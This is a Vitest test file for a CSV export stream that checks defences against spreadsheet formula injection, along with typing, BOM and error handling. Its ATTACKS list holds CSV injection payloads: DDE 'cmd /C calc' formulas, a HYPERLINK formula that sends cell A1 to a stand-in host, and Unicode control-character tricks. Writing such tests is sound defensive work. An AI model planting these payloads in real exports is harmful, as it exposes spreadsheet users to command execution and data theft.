import { buffer } from 'node:stream/consumers'
import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { type CsvValue, csvStream } from '../../src/csv/csv-stream.ts'

async function* each<Row>(rows: readonly Row[]) {
  yield* rows
}

async function written(values: readonly CsvValue[], bom = false): Promise<Buffer> {
  const rows = values.map((value) => ({ at: 'x', value }))
  return buffer(csvStream(each(rows), { columns: ['at', 'value'], bom }))
}

const ATTACKS = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://un.example/?x="&A1,"اضغط هنا")',
  '@SUM(1+1)*cmd|/C calc',
  '-2+3+cmd|/C calc',
  '+1,"\r\n=1+1',
  '\t=1+1',
  '\r\n=1+1\r\n',
  '"=1+1"',
  '";=1+1;"',
  '\u202e=1+1',
  '  ＝1+1',
  'plain\n=1+1,"second line"',
  'قال: "نعم"، ثم\u2067 سكت',
  "'=1+1",
]

test('cells come back whole, and none begins with what a spreadsheet computes', async () => {
  const read: string[][] = parse(await written(ATTACKS), { bom: true })
  expect(read[0]).toEqual(['at', 'value'])
  const cells = read.slice(1).map(([, value = '']) => value)
  expect(cells.map((cell) => cell.replace(/^'(?=[\s\p{Cf}]*[=+\-@＝])/u, ''))).toEqual(
    ATTACKS.map((text) => text.replace(/^'(?==)/, '')),
  )
  for (const cell of cells) expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+\-@＝＋－＠]/u)
})

test('numbers stay numbers, yes and no are words, nothing is nothing; lines end as RFC 4180 says', async () => {
  const text = (await written([-3, 0, 1.5, true, null, '-3', ''])).toString('utf8')
  expect(text).toBe('"at","value"\r\n"x",-3\r\n"x",0\r\n"x",1.5\r\n"x",true\r\n"x",\r\n"x","\'-3"\r\n"x",""\r\n')
})

test('the mark of UTF-8 is there for who asks for it', async () => {
  expect([...(await written(['é'], true)).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  expect((await written(['é'])).subarray(0, 4).toString()).toBe('"at"')
})

test('rows that fail on the way make the stream fail, not end early', async () => {
  async function* failing() {
    yield { at: 'x', value: 1 }
    throw new Error('the store is gone')
  }
  await expect(buffer(csvStream(failing(), { columns: ['at', 'value'], bom: false }))).rejects.toThrow(
    'the store is gone',
  )
})
